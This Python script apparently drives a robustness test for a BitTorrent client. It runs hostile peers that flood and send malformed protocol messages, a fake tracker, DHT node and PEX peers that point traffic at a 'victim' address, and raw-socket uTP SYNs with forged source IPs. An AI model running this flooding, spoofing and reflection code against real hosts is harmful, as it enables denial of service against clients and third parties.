#!/usr/bin/env python3
"""All the attackers of test_flood.py, in one process on one host.

	flooder.py FIRST FIRST6 MONITOR MONITOR6 PORT VICTIM PRIVATE HONEST,...

FIRST is the first of its addresses, and the peer at FIRST + i misbehaves in
the way of WAYS[i]; behind them come the tracker, a DHT node and those that
dial the monitor, over TCP and uTP, which they do from the first line of stdin
on. From FIRST6 on are those that dial over IPv6. What it did it
says as JSON, a line a second. It ends with its stdin.
"""
import asyncio
import collections
import functools
import ipaddress
import json
import os
import random
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from content import Content, bdecode, bencode		# noqa: E402
from hostile import handshake, http, message	# noqa: E402

TIMES = 10000		# that many connections; names of each kind
TIMES6, TIMES_UTP = 2000, 3000	# over IPv6; SYNs over uTP, of each family
AT_ONCE = 100
A_MESSAGE = 2000	# names in one of PEX
PEER_PORT, TRACKER_PORT, VICTIM_PORT = 6881, 7000, 80
EXTENDED = bytes(5) + b"\x10\0\4"
FORGED = int(ipaddress.ip_address("11.77.128.0"))	# ... and those behind it
BAD_PIECE = 42		# one bit of it is wrong
did = collections.Counter()


def content(tracker=None):
	return Content("flooded swarm", "flood", [[tracker or "-"]])


def full(c):
	n = c.pieces
	return ((1 << n) - 1 << (-n % 8)).to_bytes((n + 7) // 8, "big")


def compact(address, port):
	return ipaddress.ip_address(address).packed + struct.pack(">H", port)


def made_up(victim, private):
	"""Ten thousand names of each kind, an address each. The victim's real
	port is every other."""
	for i in range(TIMES):
		yield victim, 1024 + i if i % 2 else VICTIM_PORT
		yield private, 1024 + i if i % 2 else VICTIM_PORT
		yield "127.%d.%d.1" % (i >> 8 & 255, i & 255), 6881
		yield "224.%d.%d.1" % (i >> 8 & 255, i & 255), 6881


class Talk:
	"""One conversation: what the other side says, and our part."""

	def __init__(self, reader, writer, c, names=(), greeted=False):
		self.r, self.w, self.c, self.names = reader, writer, c, names
		self.greeted = greeted		# by us: we dialled

	async def say(self, data):
		self.w.write(data)
		await self.w.drain()
		did["bytes"] += len(data)

	async def greet(self, reserved=EXTENDED):
		await self.r.readexactly(68)
		if not self.greeted:
			await self.say(handshake(self.c.info_hash, reserved))

	async def hear(self):
		n, = struct.unpack(">I", await self.r.readexactly(4))
		return await self.r.readexactly(n)

	async def serve(self, answer):
		await self.greet()
		await self.say(message(14) + message(1))
		while True:
			m = await self.hear()
			if m[:1] == b"\6":
				await answer(*struct.unpack(">III", m[1:]))

	async def block(self, i, at, data):
		await self.say(message(7, struct.pack(">II", i, at) + data))


# --- the ways to misbehave; a peer each, and some of them also dial ----------


async def haves(t):
	await t.greet()
	all_of = b"".join(message(4, struct.pack(">I", i))
	    for i in range(t.c.pieces))
	while True:
		await t.say(all_of * 50)


async def bitfields(t):
	await t.greet()
	while True:
		await t.say(message(5, full(t.c)) * 500)


async def handshakes(t):
	await t.greet()
	while True:
		await t.say(handshake(t.c.info_hash) * 100)


async def trickles(t):
	await t.greet()
	for b in message(5, full(t.c)) * 1000:
		await t.say(bytes([b]))
		await asyncio.sleep(1)


async def huge_have(t):
	await t.greet()
	await t.say(message(4, struct.pack(">I", 2 ** 31)))


async def huge_bitfield(t):
	await t.greet()
	await t.say(struct.pack(">IB", 1 + 2 ** 28, 5) + b"\xff" * 2 ** 16)


async def huge_metadata(t):
	await t.greet()
	await t.say(message(20, b"\0" + bencode({"m": {"ut_metadata": 3},
	    "metadata_size": 2 ** 31, "reqq": 2 ** 31})))


async def other_blocks(t):
	async def answer(i, at, n):
		j = (i + 1) % t.c.pieces
		await t.block(j, at, t.c.piece(j)[at:at + n])
	await t.serve(answer)


async def one_bit(t):
	async def answer(i, at, n):
		data = bytearray(t.c.piece(i)[at:at + n])
		if i == BAD_PIECE and at == 0:
			data[n // 2] ^= 1
		await t.block(i, at, bytes(data))
	await t.serve(answer)


async def mid_piece(t):
	async def answer(i, at, n):
		await t.say(struct.pack(">IBII", n + 9, 7, i, at) +
		    t.c.piece(i)[at:at + n // 3])
		t.w.close()
	await t.serve(answer)


async def exchanges(t):
	"""Ten thousand names by PEX, over and over."""
	await t.greet()
	await t.say(message(20, b"\0" + bencode({"m": {"ut_pex": 1}})))
	names = [compact(*e) for e in t.names[:A_MESSAGE]]
	while True:
		m = await t.hear()
		if m[:2] == b"\x14\0":
			pex = bdecode(m, 2)[0][b"m"][b"ut_pex"]
			break
	added = bencode({"added": b"".join(names),
	    "added.f": bytes(len(names))})
	while True:
		await t.say(message(20, bytes([pex]) + added))
		did["pex"] += len(names)
		await asyncio.sleep(0.2)


async def repeat(t, *messages):
	"""Without end, and whatever comes is not even read."""
	await t.greet()
	while True:
		await t.say(b"".join(messages) * (65536 // len(messages[0]) //
		    len(messages) + 1))


async def dictionaries(t):
	"""Extended handshakes, each as long as may be."""
	await repeat(t, *(message(20, b"\0" + bencode({"m": {"x%d" % i: i},
	    "v": "x" * 30000})) for i in range(2)))


async def sizes(t):
	"""Metadata whose size is another each time, and its parts, which
	nobody asked for."""
	await repeat(t, *(message(20, b"\0" + bencode({"m": {"ut_metadata": 3},
	    "metadata_size": 2 ** i})) + message(20, b"\2" + bencode(
	    {"msg_type": 1, "piece": i, "total_size": 2 ** i}) + bytes(2 ** 14))
	    for i in range(1, 30)))


async def long_exchange(t):
	await t.greet()
	await t.say(message(20, b"\1" + bencode({"added": bytes(10 ** 6)})))


async def hash_requests(t):
	await repeat(t, *(message(21, os.urandom(32) +
	    struct.pack(">IIII", 0, 0, 512, i)) for i in range(100)))


async def fasts(t):
	await repeat(t, *(message(17, struct.pack(">I", i))
	    for i in range(t.c.pieces)))


async def rejects(t):
	await repeat(t, *(message(16, struct.pack(">III", i, 0, 2 ** 14))
	    for i in range(t.c.pieces)))


async def requests(t):
	"""Each would have an answer."""
	await repeat(t, *(message(6, struct.pack(">III", i, 0, 2 ** 14))
	    for i in range(t.c.pieces)))


async def ports(t):
	"""A DHT node at every port."""
	await repeat(t, *(message(9, struct.pack(">H", i))
	    for i in range(1, 65536)))


async def keepalives(t):
	await repeat(t, bytes(4))


WAYS = (haves, bitfields, handshakes, trickles, huge_have, huge_bitfield,
    huge_metadata, other_blocks, one_bit, mid_piece, exchanges, dictionaries,
    sizes, long_exchange, hash_requests, fasts, rejects, requests, ports,
    keepalives)
CALL = (haves, bitfields, handshakes, exchanges, mid_piece, requests, sizes)
CALL6 = (haves, handshakes)


# --- who is where ------------------------------------------------------------


def address(first, i):
	return str(ipaddress.ip_address(first) + i)


def tracker_of(first):
	return address(first, len(WAYS))


def node_of(first):
	return address(first, len(WAYS) + 1)


def dials_of(first):
	"""The one of ten thousand connections, and of CALL."""
	return [address(first, len(WAYS) + 2 + i)
	    for i in range(1 + len(CALL))]


def utp_of(first):
	"""The one that calls over uTP; of IPv6 likewise."""
	return address(first, len(WAYS) + 3 + len(CALL))


def pads_of(first):
	return address(first, len(WAYS) + 4 + len(CALL))


def dials6_of(first6):
	"""The one of many connections, and of CALL6."""
	return [address(first6, i) for i in range(1 + len(CALL6))]


def addresses(first):
	return [address(first, i) for i in range(len(WAYS))] + \
	    [tracker_of(first), node_of(first)] + dials_of(first) + \
	    [utp_of(first), pads_of(first)]


def addresses6(first6):
	return dials6_of(first6) + [utp_of(first6)]


@functools.lru_cache(1)
def flood_of(c):
	"""More haves than anybody listens to."""
	haves = b"".join(message(4, struct.pack(">I", i))
	    for i in range(c.pieces))
	return handshake(c.info_hash, EXTENDED) + haves * (
	    5000000 // len(haves))


class Utp(asyncio.DatagramProtocol):
	"""Begins conversations over uTP (BEP 29), ever anew, and floods the
	first that is answered with haves, as fast as they are acknowledged."""

	def __init__(self, c):
		self.live = None	# the connection id of that one
		self.left = False	# for flooding
		self.said = flood_of(c)
		self.sent = self.acked = self.theirs = 0

	def connection_made(self, transport):
		self.transport = transport

	def put(self, kind, number, seq, data=b""):
		self.transport.sendto(struct.pack(">BBHIIIHH", kind << 4 | 1, 0,
		    number & 65535, 0, 0, 1 << 20, seq & 65535,
		    self.theirs & 65535) + data)

	def syn(self):
		self.put(4, random.randrange(65536), 1)
		did["utp"] += 1

	def datagram_received(self, data, who):
		if len(data) < 20 or data[0] & 15 != 1:
			return
		kind, number, seq, ack = (data[0] >> 4,
		    *(struct.unpack_from(">H", data, i)[0] for i in (2, 16, 18)))
		if self.live is None and kind == 2 and ack == 1:
			self.live, self.theirs = number, seq - 1
			did["utp_answered"] += 1
		if number != self.live:
			return
		if kind in (1, 3):	# it had enough
			self.left |= self.sent > 100
			self.live, self.sent, self.acked = None, 0, 0
			return
		if kind == 0 and seq == self.theirs + 1 & 65535:
			self.theirs = seq
			self.put(2, number + 1, self.sent + 2)
		self.acked = max(self.acked, ack - 1 & 65535)
		while self.sent < self.acked + 30:
			at = self.sent * 1200 % len(self.said)
			self.put(0, number + 1, self.sent + 2,
			    self.said[at:at + 1200])
			self.sent += 1
			did["utp_bytes"] += 1200


class Node(asyncio.DatagramProtocol):
	"""A DHT node that names the same few addresses, whatever is asked."""

	def __init__(self, names):
		self.names = names

	def connection_made(self, transport):
		self.transport = transport

	def datagram_received(self, data, who):
		try:
			q = bdecode(data)[0]
			a, t = q[b"a"], q[b"t"]
		except (ValueError, KeyError, TypeError, IndexError):
			return
		target = a.get(b"info_hash") or a.get(b"target") or bytes(20)
		near = lambda i: target[:18] + struct.pack(">H", i)
		victims = self.names[0:2000:4]
		r = {"id": near(0), "token": "t",
		    "values": [compact(*e) for e in victims],
		    "nodes": b"".join(near(i) + compact(*e)
			for i, e in enumerate(self.names[:80], 1))}
		for _ in range(20):	# one is an answer
			self.transport.sendto(bencode({"t": t, "y": "r",
			    "r": r}), who)
			did["dht"] += len(victims)


class Flood:
	def __init__(self, first, first6, monitor, monitor6, port, victim,
	    private, honest):
		self.first, self.first6 = first, first6
		self.monitor, self.monitor6 = (monitor, port), (monitor6, port)
		self.names = list(made_up(victim, private))
		self.peers = [(address(first, i), PEER_PORT)
		    for i in range(len(WAYS))] + \
		    [(a, PEER_PORT) for a in honest]
		self.c = content()

	async def talk(self, way, reader, writer, greeted=False):
		t = Talk(reader, writer, self.c, self.names, greeted)
		did[way.__name__] += 1
		try:
			await way(t)
			while await reader.read(65536):
				pass
		except (OSError, asyncio.IncompleteReadError):
			pass
		finally:
			writer.close()

	async def track(self, reader, writer):
		"""The names first, those that are peers behind them."""
		try:
			await reader.readuntil(b"\r\n\r\n")
			writer.write(http(bencode({"interval": 1800, "peers":
			    b"".join(compact(*e)
			    for e in self.names + self.peers)})))
			did["tracker"] += len(self.names)
			await writer.drain()
		except (OSError, asyncio.IncompleteReadError):
			pass
		finally:
			writer.close()

	async def call(self, me, way):
		"""Dials, misbehaves, and again when it is thrown out; from
		few ports, so that conversations taken up and others that were
		not had the same."""
		for i in range(10 ** 9):
			try:
				reader, writer = await asyncio.open_connection(
				    *self.target(me), local_addr=(me,
				    20000 + i % 10))
				await Talk(reader, writer, self.c).say(
				    handshake(self.c.info_hash, EXTENDED))
				await self.talk(way, reader, writer, True)
			except OSError:
				pass
			await asyncio.sleep(0.2)

	def target(self, me):
		return self.monitor6 if ":" in me else self.monitor

	async def connect(self, me, times, count):
		"""One of AT_ONCE who make so many connections together."""
		while did[count] < times:
			did[count] += 1
			try:
				reader, writer = await asyncio.open_connection(
				    *self.target(me), local_addr=(me, 0))
				did["connected"] += 1
				writer.write(handshake(self.c.info_hash))
				while await reader.read(4096):
					pass
				writer.close()
			except OSError:
				pass

	async def pad(self, me):
		"""An encrypted handshake's first key, and padding for ever."""
		while True:
			try:
				reader, writer = await asyncio.open_connection(
				    *self.monitor, local_addr=(me, 0))
				did["padded"] += 1
				while not reader.at_eof():
					writer.write(os.urandom(4096))
					await writer.drain()
			except OSError:
				pass
			await asyncio.sleep(5)

	async def forge(self):
		"""SYNs of conversations over uTP, each from another address
		and port; whoever has it knows nothing of that."""
		s = socket.socket(socket.AF_INET, socket.SOCK_RAW,
		    socket.IPPROTO_RAW)
		to, port = self.monitor
		for i in range(TIMES_UTP):
			syn = struct.pack(">BBHIIIHH", 0x41, 0, i, 0, 0, 0, 1, 0)
			udp = struct.pack(">HHHH", 1024 + i, port,
			    8 + len(syn), 0) + syn
			s.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0,
			    20 + len(udp), i, 0, 64, 17, 0,
			    ipaddress.ip_address(FORGED + i).packed,
			    ipaddress.ip_address(to).packed) + udp, (to, 0))
			did["forged"] += 1
			await asyncio.sleep(0.005)

	async def call_utp(self, me):
		"""From ten ports, in turn; on until one was left."""
		loop = asyncio.get_running_loop()
		ends = [(await loop.create_datagram_endpoint(
		    lambda: Utp(self.c), local_addr=(me, 20100 + i),
		    remote_addr=self.target(me)))[1] for i in range(10)]
		for i in range(TIMES_UTP):
			ends[i % 10].syn()
			await asyncio.sleep(0.005)
		# One in a minute is taken up, and gives way to others unless it
		# proves in time that it receives.
		while not any(e.left for e in ends):
			random.choice(ends).syn()
			await asyncio.sleep(1)

	async def run(self):
		loop = asyncio.get_running_loop()
		for i, way in enumerate(WAYS):
			await asyncio.start_server(lambda r, w, way=way:
			    self.talk(way, r, w), address(self.first, i),
			    PEER_PORT)
		await asyncio.start_server(self.track, tracker_of(self.first),
		    TRACKER_PORT)
		await loop.create_datagram_endpoint(lambda: Node(self.names),
		    local_addr=(node_of(self.first), PEER_PORT))
		print(json.dumps({"ready": True}), flush=True)
		await loop.run_in_executor(None, sys.stdin.readline)
		one, *others = dials_of(self.first)
		one6, *others6 = dials6_of(self.first6)
		tasks = [self.connect(one, TIMES, "connections")
		    for _ in range(AT_ONCE)] + \
		    [self.connect(one6, TIMES6, "connections6")
		    for _ in range(AT_ONCE)] + \
		    [self.call(me, way) for me, way in zip(others + others6,
		    CALL + CALL6)] + [self.call_utp(utp_of(first))
		    for first in (self.first, self.first6)] + \
		    [self.pad(pads_of(self.first)), self.forge()]
		self.tasks = [asyncio.ensure_future(t) for t in tasks]
		end = loop.run_in_executor(None, sys.stdin.read)
		while not end.done():
			await asyncio.sleep(1)
			print(json.dumps(did), flush=True)
		os._exit(0)


def main():
	first, first6, monitor, monitor6, port, victim, private, honest = \
	    sys.argv[1:]
	flood = Flood(first, first6, monitor, monitor6, int(port), victim,
	    private, honest.split(","))
	asyncio.run(flood.run())


if __name__ == "__main__":
	main()
